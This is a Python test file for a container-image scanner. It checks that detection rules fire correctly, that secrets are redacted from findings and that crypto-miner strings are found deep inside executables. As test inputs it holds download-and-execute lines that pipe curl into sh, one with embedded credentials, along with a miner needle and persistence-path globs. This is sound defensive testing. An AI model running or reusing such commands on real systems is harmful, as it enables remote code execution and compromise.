"""The indicator rules are data: every rule's positive examples must match and its negative
examples must not, through the same entry points the streaming analysis uses."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from podmortem.image.catalog import Notes, Rule, rules
from podmortem.image.indicators import Indicators, glob_regex, is_text
from podmortem.image.model import Entry

REPO = Path(__file__).resolve().parents[2]
EXAMPLE_KINDS = ("path", "content", "accounts", "config")
IND = Indicators()


def _entry(ex: dict[str, Any]) -> tuple[Entry, bytes]:
    content = str(ex.get("content", "")).encode("utf-8")
    kind = str(ex.get("kind", "file"))
    elf = bool(ex.get("elf")) or content.startswith(b"\x7fELF")
    mode = int(str(ex["mode"]), 8) if "mode" in ex else (0o755 if elf else 0o644)
    e = Entry(str(ex["path"]), kind, 0, size=len(content), mode=mode, sha256="0" * 64)
    e.is_elf = elf
    e.is_script = content.startswith(b"#!")
    e.is_text = not elf and is_text(content)
    # what the layer reader's whole-file needle search records for executables
    e.needles_found = tuple((n, content.find(n)) for n in IND.needles_for(e) if n in content)
    return e, content


def _fires(rule: Rule, ex: dict[str, Any]) -> tuple[bool, Notes]:
    notes = Notes("test")
    if rule.kind == "config":
        field = ex["field"]
        value = str(ex["value"])
        cfg: dict[str, Any] = {"config": {}}
        if field == "env":
            cfg["config"]["Env"] = [value]
        elif field == "cmd":
            cfg["config"]["Cmd"] = ["/bin/sh", "-c", value]
        elif field == "entrypoint":
            cfg["config"]["Entrypoint"] = [value]
        else:
            cfg["history"] = [{"created_by": value}]
        IND.scan_config(cfg, notes)
    else:
        entry, data = _entry(ex)
        if rule.kind != "path" and data:
            # the streaming reader only hands content to rules that asked for it
            assert IND.wants_content(entry), f"{rule.id}: {entry.path} would not be read"
        IND.scan_entry(entry, data, notes)
    return any(h.rule_id == rule.id for h in notes.hits), notes


CASES = [
    pytest.param(r, sign, i, id=f"{r.id}-{sign}{i}")
    for r in rules().values()
    if r.kind in EXAMPLE_KINDS
    for sign in ("positive", "negative")
    for i in range(len(r.examples.get(sign) or []))
]


@pytest.mark.parametrize(("rule", "sign", "i"), CASES)
def test_rule_examples(rule: Rule, sign: str, i: int) -> None:
    ex = rule.examples[sign][i]
    fired, notes = _fires(rule, ex)
    assert fired is (sign == "positive"), f"{rule.id} {sign} example {ex}"
    if fired and rule.params.get("secret"):
        hit = next(h for h in notes.hits if h.rule_id == rule.id)
        text = " ".join([hit.summary, *hit.evidence])
        assert any(e.startswith("value_sha256=sha256:") for e in hit.evidence)
        m = None
        for pat in rule.params["patterns"]:
            import re

            src = str(ex.get("content", ex.get("value", "")))
            m = re.search(pat, src)
            if m:
                break
        assert m is not None
        assert m.group("value") not in text, "a secret value leaked into the finding"


@pytest.mark.parametrize("rule", list(rules().values()), ids=lambda r: r.id)
def test_every_rule_is_tested(rule: Rule) -> None:
    assert rule.title and rule.id.startswith("image.")
    if rule.kind in EXAMPLE_KINDS:
        assert rule.examples.get("positive"), f"{rule.id} has no positive example"
        assert rule.examples.get("negative"), f"{rule.id} has no negative example"
    else:
        tested_by = rule.examples.get("tested_by")
        assert tested_by, f"{rule.id} names no test"
        path = REPO / str(tested_by)
        assert path.is_file(), f"{rule.id}: {tested_by} does not exist"
        assert rule.id in path.read_text(), f"{tested_by} never mentions {rule.id}"


@pytest.mark.parametrize(
    ("glob", "path", "match"),
    [
        ("/etc/cron.*/*", "/etc/cron.d/x", True),
        ("/etc/cron.*/*", "/etc/cron.d/x/y", False),
        ("**/.ssh/authorized_keys", "/root/.ssh/authorized_keys", True),
        ("**/.ssh/authorized_keys", "/home/a/b/.ssh/authorized_keys", True),
        ("**/*.php", "/x.php", True),
        ("**/*.php", "/var/www/a.php.txt", False),
        ("/tmp/**", "/tmp/a/b/c", True),
        ("/tmp/**", "/tmpx", False),
        ("**/*.php[0-9]", "/a/b.php7", True),
    ],
)
def test_globs(glob: str, path: str, match: bool) -> None:
    import re

    assert bool(re.fullmatch(glob_regex(glob), path)) is match


def test_history_finding_names_its_layer() -> None:
    notes = Notes("t")
    cfg = {
        "history": [
            {"created_by": "ADD file in /"},
            {"created_by": "ENV X=1", "empty_layer": True},
            {"created_by": "RUN /bin/sh -c curl http://x/y | sh"},
        ]
    }
    IND.scan_config(cfg, notes)
    (hit,) = [h for h in notes.hits if h.rule_id == "image.config.download_exec"]
    assert hit.config_key == "history[2].created_by"
    assert hit.layer == 1  # the second non-empty history entry is layer 1


def test_evidence_snippets_are_redacted() -> None:
    notes = Notes("t")
    cfg = {"config": {"Cmd": ["/bin/sh", "-c", "curl -u deploy:Sup3rS3cret http://h/x | sh"]}}
    IND.scan_config(cfg, notes)
    (hit,) = [h for h in notes.hits if h.rule_id == "image.config.download_exec"]
    assert "Sup3rS3cret" not in " ".join(hit.evidence)
    assert "<redacted sha256:" in " ".join(hit.evidence)


@pytest.mark.parametrize("at", [(1 << 20) - 3, (1 << 20) - 512 - 3, 3 << 20])
def test_miner_strings_deep_in_an_executable(tmp_path: Path, at: int) -> None:
    """Beyond the scanned head, executables are still searched whole as they stream, also
    when a needle straddles two read chunks."""
    from podmortem.image.analysis import analyze

    from .builders import LAYOUTS, F, Spec

    body = bytearray(b"\x7fELF\x02\x01\x01" + b"\0" * ((4 << 20) - 7))
    body[at : at + 11] = b"cryptonight"
    lib = bytes(body)
    layers = [[F("/usr/local/bin/updater", lib, mode=0o755), F("/usr/lib/libz.so", lib)]]
    a = analyze(LAYOUTS["docker-oci"](Spec(layers=layers), tmp_path))
    hits = [f for f in a.findings if f.rule_id == "image.miner.binary"]
    assert [f.extra["path"] for f in hits] == ["/usr/local/bin/updater"]  # libraries: head only
    assert f"at byte {at}" in hits[0].summary
